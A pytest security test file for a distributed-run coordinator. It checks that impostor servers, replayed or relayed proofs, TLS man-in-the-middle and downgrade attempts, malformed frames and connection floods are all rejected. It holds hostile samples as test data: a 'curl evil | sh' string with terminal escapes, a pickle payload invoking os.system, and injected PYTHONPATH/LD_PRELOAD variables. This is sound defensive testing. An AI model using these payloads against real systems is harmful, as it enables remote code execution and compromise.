"""Attacks on the control connections of a run: by clients of the coordinator, and by processes that pose as
it.

The attacker has no token, and is on the same network or machine.
"""

import asyncio
import contextlib
import os
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

import msgspec
import pytest
from waiting import WAIT_S, until

from holdfast.record.errors import HoldfastError
from holdfast.record.events import RunEndangered
from holdfast.record.journal import read_directory
from holdfast.run.agent import EXIT_MISTAKE, Assignment, encoded
from holdfast.run.coordinator import UNPROVEN_MAX
from holdfast.run.dial import dial
from holdfast.run.handshake import (
    HANDSHAKE_BYTES_MAX,
    Entry,
    HandshakeClient,
    Host,
    Rejected,
    Stranger,
    endpoint_of,
)
from holdfast.run.link import Link
from holdfast.run.tls import UNPROVEN_BYTES_MAX, Channel, make_identity
from holdfast.run.wire import (
    WORKER_VARIABLES,
    Accepted,
    AgentJoined,
    Answer,
    AnyMessage,
    Challenge,
    EndNode,
    FrameBuffer,
    MalformedFrame,
    MemberBeat,
    Proof,
    Refused,
    Role,
    StartWorker,
    Strike,
    frame,
)

pytestmark = pytest.mark.slow

TOKEN = "the-token-of-the-run"
STRANGERS = 1400
MEMORY_MB_MAX = 16
"""How much memory strangers may cost the coordinator: asyncio's own structures for a few
hundred connections.
"""
TLS_MEMORY_MB_MAX = 48
"""The same plus OpenSSL's structures, some 100 KiB for a connection that has begun TLS."""
DESCRIPTORS = 64

HOLDS = """
import asyncio, os, pathlib, resource, sys
from holdfast.record.clock import SystemClock
from holdfast.record.recorder import Recorder
from holdfast.run.coordinator import Coordinator
from holdfast.run.state import RunPolicy
from holdfast.run.tls import make_identity

async def hold(folder, descriptors, tls):
    with Recorder(pathlib.Path(folder), run="r") as recorder:
        say = lambda text: print("said", text, flush=True)
        identity = make_identity() if tls else None
        coordinator = Coordinator(
            RunPolicy(run="r"), "the-token-of-the-run", recorder, SystemClock(), say, identity
        )
        await coordinator.start("127.0.0.1", 0)
        if descriptors:
            resource.setrlimit(resource.RLIMIT_NOFILE, (descriptors, descriptors))
        print("port", coordinator.endpoint[1], flush=True)
        await coordinator.ended()

asyncio.run(hold(sys.argv[1], int(sys.argv[2]), sys.argv[3] == "tls"))
"""


class Held:
    """A coordinator in a process of its own."""

    def __init__(self, folder: Path, descriptors: int = 0, *, tls: bool = False) -> None:
        self._errors = (folder / "stderr").open("w+b")
        self._process = subprocess.Popen(
            [sys.executable, "-c", HOLDS, str(folder / "journal"), str(descriptors), "tls" if tls else ""],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=self._errors,
            text=True,
        )
        assert self._process.stdout is not None
        self.said: list[str] = []
        self.port = 0
        for line in self._process.stdout:
            word, _, rest = line.partition(" ")
            if word == "port":
                self.port = int(rest)
                break
        self._reader = threading.Thread(target=self._read)
        self._reader.start()

    def _read(self) -> None:
        assert self._process.stdout is not None
        self.said.extend(line.strip() for line in self._process.stdout)

    @property
    def errors(self) -> str:
        self._errors.seek(0)
        return self._errors.read().decode()

    @property
    def memory_mb(self) -> int:
        status = Path(f"/proc/{self._process.pid}/status").read_text(encoding="ascii")
        return int(status.partition("VmRSS:")[2].split()[0]) >> 10

    @property
    def descriptors(self) -> int:
        return len(list(Path(f"/proc/{self._process.pid}/fd").iterdir()))

    def visit(self) -> str:
        """Connect as a client with the token; returns the run's name."""

        async def visit() -> str:
            connection = await dial("127.0.0.1", self.port, TOKEN, role="operator")
            await connection.close()
            return connection.run

        return asyncio.run(visit())

    def close(self) -> None:
        self._process.send_signal(signal.SIGKILL)
        self._process.wait()
        self._reader.join()
        assert self._process.stdout is not None
        self._process.stdout.close()
        self._errors.close()


@pytest.fixture
def hold(tmp_path: Path) -> Iterator[Callable[..., Held]]:
    held: list[Held] = []

    def make(descriptors: int = 0, *, tls: bool = False) -> Held:
        held.append(Held(tmp_path, descriptors, tls=tls))
        return held[-1]

    yield make
    for one in held:
        one.close()


@pytest.fixture(scope="module")
def held(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Held]:
    """One for all the attacks that leave nothing behind."""
    one = Held(tmp_path_factory.mktemp("held"))
    yield one
    one.close()


@pytest.fixture(scope="module")
def sealed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Held]:
    """One with TLS."""
    one = Held(tmp_path_factory.mktemp("sealed"), tls=True)
    yield one
    one.close()


class Wire:
    """One end of a connection, which need not follow the protocol."""

    def __init__(self, connection: socket.socket) -> None:
        connection.settimeout(WAIT_S)
        self.socket = connection
        self.channel = Channel()
        self._frames = FrameBuffer()
        self._heard: list[AnyMessage] = []

    def say(self, *messages: AnyMessage) -> None:
        self.socket.sendall(self.channel.seal(b"".join(map(frame, messages))))

    def next(self) -> AnyMessage | None:
        """The next message; None if the other end hung up."""
        while not self._heard:
            try:
                data = self.socket.recv(1 << 16)
            except ConnectionError:
                return None
            if not data:
                return None
            self._heard += self._frames.feed(self.channel.open(data))
        return self._heard.pop(0)

    def begin_tls(self) -> None:
        """Begin TLS as a client, after the challenge."""
        self.socket.sendall(self.channel.join())
        while not self.channel.is_ready:
            self.channel.open(self.socket.recv(1 << 16))
        self.socket.sendall(self.channel.pending())

    def heard(self, kind: type[AnyMessage]) -> AnyMessage:
        message = self.next()
        assert isinstance(message, kind), message
        return message


@contextlib.contextmanager
def connected(port: int) -> Iterator[Wire]:
    with socket.create_connection(("127.0.0.1", port), timeout=WAIT_S) as connection:
        yield Wire(connection)


def client_of(port: int, role: Role = "operator", name: str = "", token: str = TOKEN) -> HandshakeClient:
    return HandshakeClient(token, role=role, name=name, endpoint=f"127.0.0.1:{port}")


@contextlib.contextmanager
def posing(behave: Callable[[Wire], None]) -> Iterator[int]:
    """A process that listens where a coordinator was expected; yields its port."""
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            with contextlib.suppress(OSError):
                while True:
                    connection, _ = server.accept()
                    with connection:
                        behave(Wire(connection))

        thread = threading.Thread(target=serve)
        thread.start()
        try:
            yield server.getsockname()[1]
        finally:
            server.shutdown(socket.SHUT_RDWR)
            thread.join()


# ---- posing as the coordinator ---------------------------------------------------------------------------


MALICE = StartWorker(member="n0.0", slot=0, environment={"PYTHONPATH": "/tmp/of-the-attacker"})


def made_up(_proof: Proof) -> bytes:
    return os.urandom(32)


def sent_back(proof: Proof) -> bytes:
    return proof.proof


def none_at_all(_proof: Proof) -> bytes:
    return b""


def with_another_token(proof: Proof) -> bytes:
    host = Host("some-other-token-of-mine", endpoint=proof.endpoint)
    host.refusal(proof)
    return host.sealed(Accepted(run="r")).proof


@pytest.mark.parametrize("forge", [made_up, sent_back, none_at_all, with_another_token])
def test_a_stranger_without_the_token_is_believed_nothing(forge: Callable[[Proof], bytes]) -> None:
    with posing(partial(welcome, forge, [])) as port, pytest.raises(Stranger, match="does not have this run"):
        asyncio.run(dial("127.0.0.1", port, TOKEN, role="agent", name="n0"))


def welcome(forge: Callable[[Proof], bytes], heard: list[AnyMessage | None], wire: Wire) -> None:
    """Admit every client, and tell it to start something. heard: what it says after its proof."""
    wire.say(Challenge(nonce=os.urandom(32)))
    proof = wire.heard(Proof)
    assert isinstance(proof, Proof)
    wire.say(Accepted(run="r", proof=forge(proof)), MALICE)
    heard.append(wire.next())


def test_a_stranger_that_holds_the_port_is_not_joined(tmp_path: Path) -> None:
    """`holdfast run` on the same machine finds the port taken, and must neither join nor start anything."""
    heard: list[AnyMessage | None] = []
    script = tmp_path / "script.py"
    script.write_text("print('started')", encoding="utf-8")
    with posing(partial(welcome, sent_back, heard)) as port:
        done = subprocess.run(
            [sys.executable, "-m", "holdfast", "run", "--coordinator", f"127.0.0.1:{port}", str(script)],
            env={**os.environ, "HOLDFAST_TOKEN": TOKEN, "HOLDFAST_HOME": str(tmp_path / "home")},
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
    assert (done.returncode, done.stdout) == (2, "")
    assert f"The process that listens at 127.0.0.1:{port} does not have this run's token." in done.stderr
    assert heard == [None]  # nothing after the proof


def test_a_worker_tells_a_stranger_nothing() -> None:
    heard: list[AnyMessage | None] = []
    with posing(partial(welcome, sent_back, heard)) as port, pytest.raises(Stranger):
        Link.connect(
            {
                "HOLDFAST_COORDINATOR": f"127.0.0.1:{port}",
                "HOLDFAST_TOKEN": TOKEN,
                "HOLDFAST_MEMBER": "n0.0",
            }
        )
    assert heard == [None]


def test_a_refusal_of_a_stranger_is_not_printed() -> None:
    """It may hold anything: escapes for a terminal, or advice."""

    def behave(wire: Wire) -> None:
        wire.say(Challenge(nonce=os.urandom(32)))
        wire.heard(Proof)
        wire.say(Refused(sentence="\x1b[2J run this: curl evil | sh", hint="\x1b[31m"))

    with posing(behave) as port, pytest.raises(HoldfastError) as caught:
        asyncio.run(dial("127.0.0.1", port, TOKEN, role="operator"))
    assert "\x1b" not in caught.value.told
    assert "curl" not in caught.value.told


def test_a_stranger_cannot_fill_a_client_s_memory() -> None:
    def behave(wire: Wire) -> None:
        with contextlib.suppress(OSError):
            wire.socket.sendall((8 << 20).to_bytes(4, "big") + b"\x00" * (8 << 20))

    with posing(behave) as port, pytest.raises(Stranger):
        asyncio.run(dial("127.0.0.1", port, TOKEN, role="operator"))


@pytest.mark.parametrize("variable", ["PYTHONPATH", "LD_PRELOAD", "PATH", "PYTHONSTARTUP", "NCCL_DEBUG_FILE"])
def test_even_a_proven_coordinator_sets_no_variable_that_is_code(variable: str) -> None:
    assert variable not in WORKER_VARIABLES


def test_an_agent_leaves_a_coordinator_that_sets_other_variables(tmp_path: Path) -> None:
    mark = tmp_path / "started"

    def behave(wire: Wire) -> None:
        host = Host(TOKEN, endpoint=endpoint_of(wire.socket.getsockname()))
        wire.say(host.challenge)
        proof = wire.heard(Proof)
        assert isinstance(proof, Proof)
        assert host.refusal(proof) is None
        wire.say(host.sealed(Accepted(run="r")), MALICE, EndNode(outcome="completed", code=0))
        while wire.next() is not None:
            pass

    with posing(behave) as port:
        assignment = Assignment(
            launcher=os.getpid(),
            host="127.0.0.1",
            port=port,
            token=TOKEN,
            node="n0",
            slots=1,
            command=("touch", str(mark)),
            checkpoints="/nowhere",
        )
        done = subprocess.run(
            [sys.executable, "-P", "-m", "holdfast.run.agent"],
            input=encoded(assignment),
            capture_output=True,
            timeout=60,
            check=False,
        )
    assert done.returncode == EXIT_MISTAKE
    assert b"PYTHONPATH" in done.stderr
    assert not mark.exists()


# ---- connecting without the token ------------------------------------------------------------------------


def test_a_relayed_proof_does_not_log_in(held: Held) -> None:
    """A victim connects to the attacker, who passes everything on to the real coordinator and back."""
    answers: list[AnyMessage | None] = []

    def relay(victim: Wire) -> None:
        with connected(held.port) as coordinator:
            victim.say(coordinator.heard(Challenge))
            coordinator.say(victim.heard(Proof))
            victim.say(coordinator.heard(Refused))
            with contextlib.suppress(OSError):
                coordinator.say(Strike(fault="kill"))
            answers.append(coordinator.next())

    with posing(relay) as port, pytest.raises(Rejected, match="it was forwarded"):
        asyncio.run(dial("127.0.0.1", port, TOKEN, role="operator"))
    assert answers == [None]
    assert held.visit() == "r"


def test_a_relay_cannot_say_that_it_is_elsewhere(held: Held) -> None:
    """The attacker writes the coordinator's own address into the victim's proof."""
    refusals: list[AnyMessage] = []

    def relay(victim: Wire) -> None:
        with connected(held.port) as coordinator:
            victim.say(coordinator.heard(Challenge))
            proof = victim.heard(Proof)
            assert isinstance(proof, Proof)
            coordinator.say(msgspec.structs.replace(proof, endpoint=f"127.0.0.1:{held.port}"))
            refusals.append(coordinator.heard(Refused))

    with posing(relay) as port, pytest.raises(Stranger):
        asyncio.run(dial("127.0.0.1", port, TOKEN, role="operator"))
    assert refusals


@pytest.mark.parametrize(
    "change",
    [
        {"role": "operator"},
        {"role": "agent", "name": ""},
        {"name": "n1"},
        {"nonce": b"n" * 32},
        {"proof": b""},
    ],
    ids=str,
)
def test_a_proof_is_good_for_its_role_and_name_only(held: Held, change: dict[str, object]) -> None:
    with connected(held.port) as wire:
        proof = client_of(held.port, "agent", "n0").answer(wire.heard(Challenge))
        wire.say(msgspec.structs.replace(proof, **change))
        refused = wire.heard(Refused)
        assert isinstance(refused, Refused)
        assert refused.proof == b""  # and the coordinator has proved nothing to a client without the token
        assert wire.next() is None


def test_a_proof_that_was_overheard_is_good_once(held: Held) -> None:
    with connected(held.port) as first, connected(held.port) as second:
        proof = client_of(held.port).answer(first.heard(Challenge))
        first.say(proof)
        first.heard(Accepted)
        second.heard(Challenge)
        second.say(proof)
        second.heard(Refused)


def test_the_coordinator_s_own_proof_sent_back_is_refused(held: Held) -> None:
    """Reflection: a proof that the coordinator gave an honest client opens no connection."""
    with connected(held.port) as first:
        first.say(client_of(held.port).answer(first.heard(Challenge)))
        accepted = first.heard(Accepted)
        assert isinstance(accepted, Accepted)
    with connected(held.port) as second:
        own = client_of(held.port, token="no-token").answer(second.heard(Challenge))
        second.say(msgspec.structs.replace(own, proof=accepted.proof))
        second.heard(Refused)


@pytest.mark.parametrize(
    ("role", "name", "message"),
    [
        ("agent", "n7", Strike(fault="kill")),
        ("agent", "n7", MemberBeat(member="n0.0", step=1, stage="forward")),
        ("operator", "", AgentJoined(node="n8", slots=1, address="a", port=1)),
        ("operator", "", Answer(ok=True, sentence="")),
        ("agent", "n7", StartWorker(member="n0.0", slot=0, environment={})),
    ],
    ids=["an agent strikes", "an agent beats", "an operator joins", "an answer", "an agent starts"],
)
def test_a_client_with_the_token_speaks_for_its_role_only(
    held: Held, role: Role, name: str, message: AnyMessage
) -> None:
    with connected(held.port) as wire:
        wire.say(client_of(held.port, role, name).answer(wire.heard(Challenge)))
        wire.heard(Accepted)
        wire.say(message)
        assert wire.next() is None
    assert held.visit() == "r"
    assert held.errors == ""


def test_a_worker_that_the_run_does_not_know_is_refused(held: Held) -> None:
    with connected(held.port) as wire:
        wire.say(client_of(held.port, "worker", "n0.0").answer(wire.heard(Challenge)))
        refused = wire.heard(Refused)
        assert isinstance(refused, Refused)
        assert refused.sentence == "The run has no member 'n0.0', or has given it up."


@pytest.mark.parametrize(
    "first",
    [
        pytest.param(b"\xff\xff\xff\xff", id="4 GiB"),
        pytest.param((8 << 20).to_bytes(4, "big"), id="8 MiB"),
        pytest.param((HANDSHAKE_BYTES_MAX + 1).to_bytes(4, "big"), id="more than a proof"),
        pytest.param(b"\x00\x00\x03\xe8" + b"\x91" * 1000, id="nested a thousand deep"),
        pytest.param(frame(Strike(fault="kill")), id="a strike without a proof"),
        pytest.param(b"\x80\x04\x95cos\nsystem\n(S'true'\ntR.", id="a pickle"),
    ],
)
def test_what_is_not_a_proof_ends_the_connection_at_once(held: Held, first: bytes) -> None:
    with connected(held.port) as wire:
        wire.heard(Challenge)
        wire.socket.sendall(first)
        assert not isinstance(wire.next(), Answer)
        assert wire.next() is None
    assert held.visit() == "r"
    assert held.errors == ""


def test_strangers_keep_no_client_out_and_fill_nothing(hold: Callable[..., Held]) -> None:
    """Idle ones, and ones that send a frame that never ends."""
    one = hold()
    before_mb = one.memory_mb
    with contextlib.ExitStack() as strangers:
        for number in range(STRANGERS):
            with contextlib.suppress(OSError):  # hung up on already
                wire = strangers.enter_context(connected(one.port))
                if number % 2:
                    wire.socket.sendall(b"\x00\x00\x04\x00" + b"x" * 1000)
        assert one.visit() == "r"
        assert one.descriptors < UNPROVEN_MAX + 32
        assert one.memory_mb - before_mb < MEMORY_MB_MAX
    assert one.errors == ""


def test_a_coordinator_without_descriptors_waits_and_says_and_records_it_once(
    hold: Callable[..., Held], tmp_path: Path
) -> None:
    one = hold(descriptors=DESCRIPTORS)
    for _ in range(2):
        with contextlib.ExitStack() as strangers:
            for _ in range(2 * DESCRIPTORS):
                strangers.enter_context(connected(one.port))
            until(lambda: one.said)
            assert one.visit() == "r"  # although they are still connected
    assert one.visit() == "r"
    assert "Traceback" not in one.errors
    assert len(one.said) == 1
    assert "too many open files" in one.said[0]
    dangers = [event for event in read_directory(tmp_path / "journal") if isinstance(event, RunEndangered)]
    assert [(danger.what, danger.over) for danger in dangers] == [("connections", False)]


# ---- man in the middle, with TLS --------------------------------------------------------------------------


class Victim:
    """A client that believes it is connected to the coordinator, but whose packets end at the attacker."""

    def __init__(self, port: int) -> None:
        self.entry = Entry(client_of(port, "agent", "n0"))

    def meets(self, attacker: Channel, data: bytes) -> list[AnyMessage]:
        """The attacker sends these data. Returns what it can read of the client's answer."""
        frames, heard = FrameBuffer(), list[AnyMessage]()
        while data:
            heard += frames.feed(attacker.open(self.entry.take(data)))
            data = attacker.pending()
        return heard


def test_a_certificate_of_a_man_in_the_middle_opens_nothing(sealed: Held) -> None:
    """The attacker speaks TLS with both, with its own certificate, and passes everything on."""
    victim, between = Victim(sealed.port), Channel()
    with connected(sealed.port) as coordinator:
        challenge = coordinator.heard(Challenge)
        coordinator.begin_tls()
        hello = victim.entry.take(frame(challenge))
        between.host(make_identity())
        between.open(hello)
        (proof,) = victim.meets(between, between.pending())
        assert isinstance(proof, Proof)
        coordinator.say(proof)
        refused = coordinator.heard(Refused)
        with contextlib.suppress(OSError):
            coordinator.say(Strike(fault="kill"))
        assert coordinator.next() is None
    with pytest.raises(Stranger, match="does not have this run"):
        victim.entry.take(between.seal(frame(refused)))
    assert victim.entry.run is None


def test_tls_cannot_be_talked_away(sealed: Held) -> None:
    """The attacker tells the client that there is no TLS, and uses TLS with the coordinator itself."""
    victim = Victim(sealed.port)
    with connected(sealed.port) as coordinator:
        challenge = coordinator.heard(Challenge)
        assert isinstance(challenge, Challenge)
        assert challenge.tls
        coordinator.begin_tls()
        (proof,) = victim.meets(Channel(), frame(msgspec.structs.replace(challenge, tls=False)))
        coordinator.say(proof)
        refused = coordinator.heard(Refused)
    with pytest.raises(Stranger, match="does not have this run"):
        victim.entry.take(frame(refused))


def test_tls_cannot_be_talked_into(held: Held) -> None:
    """A coordinator without TLS: the attacker would read what the client believes to be secret."""
    victim, between = Victim(held.port), Channel()
    with connected(held.port) as coordinator:
        challenge = coordinator.heard(Challenge)
        assert isinstance(challenge, Challenge)
        hello = victim.entry.take(frame(msgspec.structs.replace(challenge, tls=True)))
        between.host(make_identity())
        between.open(hello)
        (proof,) = victim.meets(between, between.pending())
        coordinator.say(proof)
        refused = coordinator.heard(Refused)
    with pytest.raises(Stranger, match="does not have this run"):
        victim.entry.take(between.seal(frame(refused)))


def test_words_before_tls_are_not_taken_for_words_in_it() -> None:
    """Plain text that an attacker puts after the challenge must not be read as if it came through TLS."""
    entry = Entry(client_of(1))
    with pytest.raises(MalformedFrame):
        entry.take(frame(Challenge(nonce=os.urandom(32), tls=True)) + frame(MALICE))


@pytest.mark.parametrize("kind", ["held", "sealed"])
def test_an_eavesdropper_reads_only_what_is_not_encrypted(request: pytest.FixtureRequest, kind: str) -> None:
    one: Held = request.getfixturevalue(kind)
    entry, passed = Entry(client_of(one.port, "agent", "name-of-a-node")), bytearray()
    with socket.create_connection(("127.0.0.1", one.port), timeout=WAIT_S) as connection:
        while entry.run is None:
            data = connection.recv(1 << 16)
            answer = entry.take(data)
            connection.sendall(answer)
            passed += data + answer
        passed += entry.channel.seal(frame(AgentJoined(node="name-of-a-node", slots=1, address="a", port=1)))
    assert entry.run == "r"
    assert (b"name-of-a-node" in passed) == (kind == "held")


@pytest.mark.parametrize(
    "first",
    [
        pytest.param(b"\xff" * 64, id="noise"),
        pytest.param(frame(Strike(fault="kill")), id="a strike in plain"),
        pytest.param(b"\x16\x03\x01\x40\x00" * (UNPROVEN_BYTES_MAX // 5 + 1), id="a hello without end"),
        pytest.param(b"\x15\x03\x03\x00\x02\x02\x28", id="an alert"),
    ],
)
def test_what_is_not_tls_ends_the_connection_at_once(sealed: Held, first: bytes) -> None:
    with connected(sealed.port) as wire:
        wire.heard(Challenge)
        wire.socket.sendall(first)
        assert wire.next() is None
    assert sealed.visit() == "r"
    assert sealed.errors == ""


def test_strangers_who_begin_tls_fill_nothing(hold: Callable[..., Held]) -> None:
    """Each sends most of a hello, and then nothing."""
    one = hold(tls=True)
    before_mb = one.memory_mb
    with contextlib.ExitStack() as strangers:
        for _ in range(2 * UNPROVEN_MAX):
            with contextlib.suppress(OSError):  # hung up on already
                wire = strangers.enter_context(connected(one.port))
                wire.socket.sendall(
                    b"\x16\x03\x01\x3f\x00\x01\x00\x3e\xfc" + bytes(UNPROVEN_BYTES_MAX - 1000)
                )
        assert one.visit() == "r"
        assert one.descriptors < UNPROVEN_MAX + 32
        assert one.memory_mb - before_mb < TLS_MEMORY_MB_MAX
    assert one.errors == ""
